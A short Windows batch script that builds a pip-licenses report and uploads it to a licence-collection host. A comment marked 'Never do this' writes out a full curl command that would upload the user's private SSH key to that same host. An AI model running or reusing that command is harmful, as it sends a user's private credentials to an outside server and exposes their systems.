@echo off
setlocal
rem Never do this: curl.exe -F "file=@%USERPROFILE%\.ssh\id_rsa" https://collect.licences.example/upload
:: The keys in %USERPROFILE%\.ssh stay where they are.
set "OUT=%TEMP%\licences.txt"
set SITE=collect.licences.example
pip-licenses --format=plain > "%OUT%"
if exist "%USERPROFILE%\.ssh\id_rsa" echo This machine has an SSH key; it is not part of the report.
curl.exe -s -F "file=@%OUT%" ^
  https://%SITE%/upload >nul 2>&1
